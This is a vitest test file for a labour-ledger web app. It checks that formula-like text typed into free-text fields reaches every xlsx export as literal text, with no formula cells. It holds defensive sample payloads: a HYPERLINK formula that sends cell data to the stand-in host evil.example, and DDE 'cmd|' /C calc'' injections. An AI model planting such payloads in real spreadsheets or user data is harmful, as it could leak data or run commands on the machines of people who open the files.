import fs from 'node:fs';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeIdNumber } from '../../domain/id-number.ts';
import { inspectZip, openEntryText, UPLOAD_LIMITS } from '../io/zip-guard.ts';
import { createTestApp, type Agent, type TestApp } from '../testing/http.ts';
import { tempDir } from '../testing/ledger-files.ts';
import { multipartFile } from '../testing/multipart.ts';
import { DIALECTS } from '../testing/test-db.ts';

/**
 * QUALITY.md "exports": a value typed into any free-text field that begins with = + - @ TAB or CR — the
 * start of a spreadsheet formula — reaches every export the app offers as literal text, never as a formula
 * cell. Each export is downloaded and read twice: by exceljs (no cell of formula type) and as raw sheet XML
 * (no `<f>` element at all), and the hostile text is found in it verbatim.
 *
 * The app offers no CSV export (every download is an xlsx workbook; CSV is only read, by the import); the
 * test holds that too, so a CSV export added later has to bring its own neutralisation and test.
 * Assessment reasons and comments reach no export (the scorecard table shows scores only); unit and town
 * names, which every assessment and dashboard export shows, are renamed to hostile text instead.
 */

const LIUCUO = '350505100201';
const NANPU = '350505100000';
const YEAR = '2026';
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

/** The starts of a formula (OWASP "CSV injection"), each with a payload that would do harm if evaluated. */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];
let serial = 0;
/** A hostile value for one field: a payload start, then a tag naming the field so each value is unique. */
function hostile(field: string, max = 100): string {
  const p = PAYLOADS[serial++ % PAYLOADS.length]!;
  return `${p}【${field}】`.slice(0, max);
}

/** What a field holds once the app has stored it (free text is trimmed on the way in). */
const stored = (v: string) => v.trim();

function textOf(v: ExcelJS.CellValue): string {
  if (v === null || v === undefined) return '';
  if (typeof v === 'string') return v;
  if (typeof v === 'number' || typeof v === 'boolean') return String(v);
  if (v instanceof Date) return v.toISOString();
  if ('richText' in v) return v.richText.map((r) => r.text).join('');
  if ('text' in v && typeof v.text === 'string') return v.text;
  if ('result' in v) return String(v.result ?? '');
  return '';
}

interface Export {
  name: string;
  /** the route, as the route table names it */
  route: string;
  url: string;
  agent: Agent;
  /** hostile values (as stored) that this export must show verbatim */
  shows: string[];
}

/** Formula cells and raw `<f>` elements of a workbook, and the text of every cell. */
async function readWorkbook(bytes: Buffer, dir: string, name: string) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes as unknown as ArrayBuffer);
  const formulas: string[] = [];
  const cells: { where: string; text: string; type: ExcelJS.ValueType }[] = [];
  for (const ws of wb.worksheets) {
    ws.eachRow({ includeEmpty: false }, (row) =>
      row.eachCell({ includeEmpty: false }, (cell) => {
        const where = `${ws.name}!${cell.address}`;
        if (
          cell.type === ExcelJS.ValueType.Formula ||
          cell.formula ||
          (cell.value as { sharedFormula?: string })?.sharedFormula
        )
          formulas.push(`${where} = ${JSON.stringify(cell.value)}`);
        cells.push({ where, text: textOf(cell.value), type: cell.type });
      }),
    );
  }
  // the sheet XML itself: a formula is an <f> element whatever a reader makes of it
  const file = path.join(dir, `${name.replace(/[^\w.-]/g, '_')}.xlsx`);
  fs.writeFileSync(file, bytes);
  const rawFormulas: string[] = [];
  for (const entry of inspectZip(file, UPLOAD_LIMITS)) {
    if (!/^xl\/worksheets\/.*\.xml$/i.test(entry.name)) continue;
    let xml = '';
    for await (const chunk of openEntryText(file, entry, UPLOAD_LIMITS, { used: 0 })) xml += chunk as string;
    const m = /<f[\s>/]/.exec(xml);
    if (m) rawFormulas.push(`${entry.name}: ${xml.slice(m.index, m.index + 80)}`);
  }
  return { formulas, rawFormulas, cells };
}

describe.each(DIALECTS)('exports with formula-like text on %s', (dialect) => {
  let t: TestApp;
  let village: Agent;
  let town: Agent;
  let district: Agent;
  const dir = tempDir();
  const exports: Export[] = [];
  /** every hostile value sent, as the app stores it, by field */
  const sent = new Map<string, string>();
  const put = (field: string, max?: number) => {
    const v = hostile(field, max);
    sent.set(field, stored(v));
    return v;
  };

  beforeAll(async () => {
    t = await createTestApp(dialect);
    village = await t.as('liucuo');
    town = await t.as('nanpu');
    district = await t.as('kaohe');
    const admin = await t.as('admin');

    // unit and town names: every assessment and dashboard export shows them
    for (const code of [LIUCUO, NANPU]) {
      const unit = (await admin.get(`/api/units/${code}`)).json();
      const res = await admin.post(`/api/admin/units/${code}/rename`, {
        officialName: put(`unit ${code}`),
        version: unit.version,
        note: put(`rename note ${code}`, 200),
      });
      expect(res.statusCode, res.body).toBe(200);
      sent.set(`unit ${code}`, res.json().name);
    }

    const person = await village.post('/api/persons', {
      unitCode: LIUCUO,
      householdNumber: 'F1',
      name: '郑美玲',
      idNumber: makeIdNumber('350505', '1987-07-07', 555),
      note: put('person note', 500),
      skills: put('skills', 200),
      wantedTrades: put('wantedTrades', 200),
    });
    expect(person.statusCode, person.body).toBe(201);
    const personId = person.json().id;
    const employed = await village.post(`/api/persons/${personId}/employment`, {
      form: '灵活就业',
      employer: put('employer'),
      start: '2026-03-01',
    });
    expect(employed.statusCode, employed.body).toBeLessThan(300);
    for (const body of [
      {
        type: '走访',
        date: '2026-05-01',
        content: put('visit content', 2000),
        staff: put('visit staff', 50),
      },
      {
        type: '推荐就业',
        date: '2026-05-02',
        employer: put('recommend employer'),
        post: put('recommend post'),
        result: '待反馈',
        content: put('recommend content', 2000),
        staff: put('recommend staff', 50),
      },
      {
        type: '职业培训',
        date: '2026-05-03',
        course: put('course'),
        startDate: '2026-05-03',
        endDate: '2026-05-20',
        result: '合格',
        certificate: put('certificate'),
        staff: put('training staff', 50),
      },
    ]) {
      const res = await village.post(`/api/persons/${personId}/services`, body);
      expect(res.statusCode, res.body).toBe(201);
    }
    const vacancy = await village.post('/api/vacancies', {
      unitCode: LIUCUO,
      employer: put('vacancy employer'),
      post: put('vacancy post'),
      payText: put('payText'),
      place: put('place'),
      requirements: put('requirements', 500),
      contact: put('contact'),
      source: put('source'),
      collectedOn: '2026-11-01',
      validUntil: '2026-12-31',
    });
    expect(vacancy.statusCode, vacancy.body).toBe(201);

    // an import whose rows are refused: the error workbook gives back what was uploaded, formulas included
    const upload = new ExcelJS.Workbook();
    const ws = upload.addWorksheet('劳动力');
    ws.addRow(['村（社区）代码', '户编号', '姓名', '身份证号', '备注']);
    const rawTab = '\t=1+1【import tab】';
    const rawCr = '\r=1+1【import cr】';
    ws.addRow([
      LIUCUO,
      '=HYPERLINK("http://evil.example","x")',
      '@SUM(1)【import name】',
      'not an id',
      rawTab,
    ]);
    ws.addRow([LIUCUO, '+1+1【import household】', rawCr, '123', '-1+1【import note】']);
    const formulaRow = ws.addRow([LIUCUO, 'F9', '王五', 'bad']);
    formulaRow.getCell(5).value = { formula: 'HYPERLINK("http://evil.example","click")', result: 'click' };
    const uploaded = Buffer.from(await upload.xlsx.writeBuffer());
    const job = await village.request({
      method: 'POST',
      url: '/api/ledger/import',
      ...multipartFile('hostile.xlsx', uploaded),
    });
    expect(job.statusCode, job.body).toBe(200);
    expect(job.json().report.errorWorkbookUrl).toBeTruthy();
    // what the upload holds as a reader sees it (XML keeps a TAB but reads a bare CR as a line feed)
    const reread = new ExcelJS.Workbook();
    await reread.xlsx.load(uploaded as unknown as ArrayBuffer);
    const sheet = reread.getWorksheet('劳动力')!;
    // E4 holds a formula: the error workbook gives back its cached result, never the formula
    const importShows = ['B2', 'C2', 'E2', 'B3', 'C3', 'E3', 'E4'].map((a) => textOf(sheet.getCell(a).value));
    expect(importShows).toContain(rawTab);

    const v = (...fields: string[]) => fields.map((f) => sent.get(f)!);
    exports.push(
      {
        name: 'ledger export (masked)',
        route: '/api/ledger/export',
        url: `/api/ledger/export?ledger=labour&unit=${LIUCUO}`,
        agent: village,
        shows: v(
          'person note',
          'employer',
          'visit content',
          'visit staff',
          'recommend content',
          'recommend staff',
        ),
      },
      {
        name: 'ledger export (full numbers)',
        route: '/api/ledger/export',
        url: `/api/ledger/export?ledger=labour&unit=${LIUCUO}&masked=false&reason=${encodeURIComponent('核对')}`,
        agent: village,
        shows: v('person note', 'employer', 'recommend employer', 'recommend post', 'training staff'),
      },
      {
        name: 'blank template',
        route: '/api/ledger/template',
        url: '/api/ledger/template',
        agent: village,
        shows: [],
      },
      {
        name: 'import error workbook',
        route: '/api/ledger/import/:id/errors.xlsx',
        url: job.json().report.errorWorkbookUrl,
        agent: village,
        shows: importShows,
      },
      {
        name: 'service ledgers',
        route: '/api/service-ledgers.xlsx',
        url: `/api/service-ledgers.xlsx?unit=${LIUCUO}&year=${YEAR}`,
        agent: village,
        shows: v(
          `unit ${LIUCUO}`,
          'visit content',
          'visit staff',
          'recommend employer',
          'recommend post',
          'recommend content',
          'recommend staff',
          'certificate',
          'training staff',
        ),
      },
      {
        name: 'job board',
        route: '/api/board.xlsx',
        url: `/api/board.xlsx?unit=${LIUCUO}&date=2026-11-26`,
        agent: village,
        shows: v(`unit ${LIUCUO}`, 'vacancy employer', 'vacancy post', 'place', 'contact', 'source'),
      },
      {
        name: 'assessment summary',
        route: '/api/assessments/summary.xlsx',
        url: `/api/assessments/summary.xlsx?year=${YEAR}`,
        agent: district,
        shows: v(`unit ${LIUCUO}`, `unit ${NANPU}`),
      },
      {
        name: 'scorecard table',
        route: '/api/assessments/:unit/:year/table.xlsx',
        url: `/api/assessments/${LIUCUO}/${YEAR}/table.xlsx`,
        agent: town,
        shows: v(`unit ${LIUCUO}`, `unit ${NANPU}`),
      },
      {
        name: 'dashboard annual report',
        route: '/api/dashboard/report.xlsx',
        url: `/api/dashboard/report.xlsx?year=${YEAR}`,
        agent: district,
        shows: v(`unit ${NANPU}`),
      },
    );
  });
  afterAll(async () => {
    await t.close();
    fs.rmSync(dir, { recursive: true, force: true });
  });

  it('covers every download route that writes a workbook or a CSV', () => {
    const downloads = t.app.apiRoutes
      .filter((r) => r.method === 'GET' && /\.(xlsx|csv)$|\/export$|\/template$/.test(r.url))
      .map((r) => r.url)
      .sort();
    const tested = [
      '/api/ledger/export',
      '/api/ledger/template',
      '/api/ledger/import/:id/errors.xlsx',
      '/api/service-ledgers.xlsx',
      '/api/board.xlsx',
      '/api/assessments/summary.xlsx',
      '/api/assessments/:unit/:year/table.xlsx',
      '/api/dashboard/report.xlsx',
    ].sort();
    expect(downloads).toEqual(tested);
    expect([...new Set(exports.map((e) => e.route))].sort()).toEqual(tested);
  });

  it('writes formula-like text as literal text in every export: no formula cell, the text verbatim', async () => {
    const failures: string[] = [];
    for (const e of exports) {
      const res = await e.agent.get(e.url);
      if (res.statusCode !== 200) {
        failures.push(`${e.name}: ${res.statusCode} ${res.body.slice(0, 200)}`);
        continue;
      }
      // every export is a workbook: no CSV, whose cells a spreadsheet would evaluate
      expect(String(res.headers['content-type']), e.name).toContain(XLSX);
      const { formulas, rawFormulas, cells } = await readWorkbook(res.rawPayload, dir, e.name);
      for (const f of [...formulas, ...rawFormulas]) failures.push(`${e.name}: formula ${f}`);
      for (const value of e.shows) {
        const hit = cells.find((c) => c.text.includes(value));
        if (!hit) failures.push(`${e.name}: ${JSON.stringify(value)} not found as text`);
        else if (![ExcelJS.ValueType.String, ExcelJS.ValueType.RichText].includes(hit.type))
          failures.push(
            `${e.name}: ${JSON.stringify(value)} in ${hit.where} is not a text cell (${hit.type})`,
          );
      }
      // any cell that starts like a formula is text
      for (const c of cells)
        if (
          /^[=+\-@\t\r]/.test(c.text) &&
          // a merged cell shows its master's value, which is checked itself
          ![ExcelJS.ValueType.String, ExcelJS.ValueType.RichText, ExcelJS.ValueType.Merge].includes(c.type)
        )
          failures.push(`${e.name}: ${c.where} starts like a formula and is of type ${c.type}`);
    }
    expect(failures, failures.join('\n')).toEqual([]);
    // the hostile text really reached the exports (the fields above are free text the app keeps as typed)
    expect(exports.flatMap((e) => e.shows).length).toBeGreaterThan(30);
  });
});
